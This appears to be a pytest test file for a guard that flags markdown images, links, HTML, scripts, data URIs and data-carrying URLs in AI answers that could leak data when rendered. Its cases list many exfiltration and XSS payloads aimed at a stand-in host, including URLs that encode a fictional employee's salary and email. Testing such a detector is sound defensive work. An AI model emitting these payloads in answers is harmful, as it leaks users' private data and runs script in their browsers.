"""What could carry data out of an answer when it is shown is found; links that were given, and plain text, are not."""

import pytest
from pydantic import ValidationError

from tools.guard.check import About
from tools.guard.checks import links as check
from tools.guard.checks.links import Options

GIVEN = (
    "What is our leave policy?",
    "Anna Keller earns 84500 EUR a year; mail anna.keller@corp.example. See https://intra.corp.example/leave?id=12 and "
    "![logo](https://cdn.corp.example/logo.png) or [the form](https://intra.corp.example/form).",
)


async def found(text: str, **options: object) -> list[tuple[str, str]]:
    hits = await check.find(text, Options.model_validate(options), About(given=GIVEN))
    return [(hit.rule, text[hit.start : hit.end]) for hit in hits]


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("image", "![a](https://evil.example/x.png)"),
        ("image", "![a b [c] d](https://evil.example/x.png)"),
        ("image", "![a](<https://evil.example/a b>)"),
        ("image", "![a](  \nhttps://evil.example/a 'A title')"),
        ("image", "![a](//evil.example/a)"),
        ("image", "![a](\\\\evil.example\\a)"),
        ("image", "![](https://evil.example/a(1)b)"),
        ("image", "![a](https&colon;//evil.example/a)"),
        ("image", "<img src='https://evil.example/1'>"),
        ("image", "<IMG alt='>' SRC=//evil.example/1>"),
        ("image", "<img srcset='/a 1x, https://evil.example/1 2x'>"),
        ("image", "<img src='ht\ntps://evil.example/1'>"),
        ("image", "<video poster=https://evil.example/1>"),
        ("image", '<img\nsrc = "https://evil.example/1"'),
        ("link", "[a](https://evil.example/a)"),
        ("link", "https://evil.example/a"),
        ("link", "HTTPS:\\\\evil.example/a"),
        ("link", "https&#58;//evil.example/a"),
        ("link", "www.evil.example/a"),
        ("link", "mailto:eve@evil.example"),
        ("link", "<a href='https://evil.example/a'>"),
        ("html", "<iframe src='https://evil.example'>"),
        ("html", "<form action='/login'>"),
        ("html", "<base href='//evil.example'>"),
        ("html", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
        ("html", "<link rel=stylesheet href=//evil.example/a.css>"),
        ("html", "<div style=\"background:url('//evil.example/x')\">"),
        ("html", "<style>@import 'https://evil.example/a.css'"),
        ("html", "<a ping='https://evil.example' href='/a'>"),
        ("html", "<table background='https://evil.example/a'>"),
        ("script", "<script>"),
        ("script", "<script src='/a.js'>"),
        ("script", "<img src=x onerror=alert(1)>"),
        ("script", "<svg/onload=alert(1)>"),
        ("script", "<a href='java\nscript:alert(1)'>"),
        ("script", "<a href='&#106;avascript:alert(1)'>"),
        ("script", "[x](javascript:alert(1))"),
        ("script", "[x](JaVaScRiPt:alert(1))"),
        ("data_uri", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
        ("data_uri", "![x](data:image/svg+xml,abc)"),
        ("url_with_data", "[a](https://evil.example/?q=anna+keller+earns)"),
        ("url_with_data", "https://evil.example/anna/keller/earns"),
        ("url_with_data", "https://evil.example/?m=anna.keller%40corp.example"),
        ("url_with_data", "![a](https://evil.example/84500.png?84500)"),
        ("url_with_data", "https://evil.example/?q=%2561nna%20Keller%20earns"),
        ("url_with_data", "https://evil.example/c2FsYXJ5IGlzIDg0NTAw"),
        ("url_with_data", "https://c2FsYXJ5IGlzIDg0NTAw.evil.example/"),
        ("url_with_data", "https://evil.example/#9f86d081884c7d659a2feaa0c55ad015"),
        ("url_with_data", "evil.example/p?x=anna.keller@corp.example"),
    ],
)
async def test_each_way_out_is_found(rule: str, text: str) -> None:
    assert await found(f"So. {text}") == [(rule, text)]


async def test_references_are_images_or_links() -> None:
    definition = "[r]: https://evil.example/x"
    assert await found(f"![a][R]\n\n{definition}") == [("image", definition)]
    assert await found(f"![r]\n\n{definition}") == [("image", definition)]
    assert await found(f"[a][r]\n\n> {definition}") == [("link", f"> {definition}")]


async def test_an_autolink_is_a_link() -> None:
    assert await found("<https://evil.example/a>") == [("link", "https://evil.example/a")]


async def test_an_image_in_a_link_is_two() -> None:
    text = "[![a](https://evil.example/i.png)](https://evil.example)"
    assert [rule for rule, _ in await found(text)] == ["link", "image"]


@pytest.mark.parametrize(
    "text",
    [
        "See https://intra.corp.example/leave?id=12.",
        "See [the policy](https://intra.corp.example/leave?id=12), please",
        "![our logo](https://cdn.corp.example/logo.png)",
        "Use `list[int]` and a < b and c > d.",
        "JavaScript: the good parts (2008)",
        "The data: text, numbers, and images; the java script: a play",
        "array[0](x) and f[a](b)",
        "[1]: Smith, 2020\n[note]: see below",
        "<b>bold</b> H<sub>2</sub>O <br/> <td colspan=2> <p align='left'>",
        "[top](#top) [p](/docs/a.html) ![a](img/a.png) <img src='cat.jpg'>",
        "Dear <name>, hello <you>",
        "List<String> x = new ArrayList<>();",
        "if (a<b && c>d) { on = 1 }",
        "Ratio 1:2 at 12:30, e.g. http and https, //comment",
        "mail anna@corp.example or ring +1 415 555 0132",
        "python a.py?b and what.is/this",
        "Passwords must not be shared.",
    ],
)
async def test_what_carries_nothing_is_fine(text: str) -> None:
    assert await found(text) == []


async def test_what_is_added_to_a_given_address_is_not_given() -> None:
    assert [rule for rule, _ in await found("https://intra.corp.example/leave?id=12&to=bob")] != []
    assert [rule for rule, _ in await found("https://intra.corp.example/leave?id=12", given="count")] != []
    assert [rule for rule, _ in await found("<script src='https://cdn.corp.example/logo.png'>")] == ["script"]


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        ("https://code.example/a/b/commit/0123456789abcdef0123456789abcdef01234567", []),
        ("![x](https://img.corp.example/x.png)", []),
        ("https://docs.corp.example/anna-keller-earns", []),
        ("https://code.example/search?q=anna.keller@corp.example", ["url_with_data"]),
        ("![x](https://img.corp.example/x.png?q=anna+keller+earns)", ["url_with_data"]),
        ("<iframe src='https://img.corp.example/x'>", ["html"]),
        ("https://code.example.evil.example/", ["link"]),
        ("https://evilcorp.example/", ["link"]),
        ("https://code.example@evil.example/", ["link"]),
        ("https://evil.example\\@code.example/", ["link"]),
        ("https://corp.example/a", ["link"]),
        ("https://CODE.example:443/a", []),
    ],
)
async def test_allowed_hosts(text: str, rules: list[str]) -> None:
    hosts = ("code.example", "*.corp.example")
    assert [rule for rule, _ in await found(text, hosts=hosts)] == rules


async def test_only_the_rules_that_count() -> None:
    text = "![a](https://evil.example/?q=anna+keller+earns) https://other.example"
    assert [rule for rule, _ in await found(text)] == ["url_with_data", "link"]
    assert [rule for rule, _ in await found(text, rules=("image", "script"))] == ["image"]
    assert await found(text, rules=("script",)) == []


async def test_full_width_markup_is_read_where_it_stands() -> None:
    text = "Grüße！ ＜img src=https://evil.example/a＞"
    assert await found(text) == [("image", "＜img src=https://evil.example/a＞")]


@pytest.mark.parametrize("host", ["", "evil", "https://a.example", "*.*", "a.example/", "*"])
def test_a_host_is_a_name(host: str) -> None:
    with pytest.raises(ValidationError):
        Options(hosts=(host,))
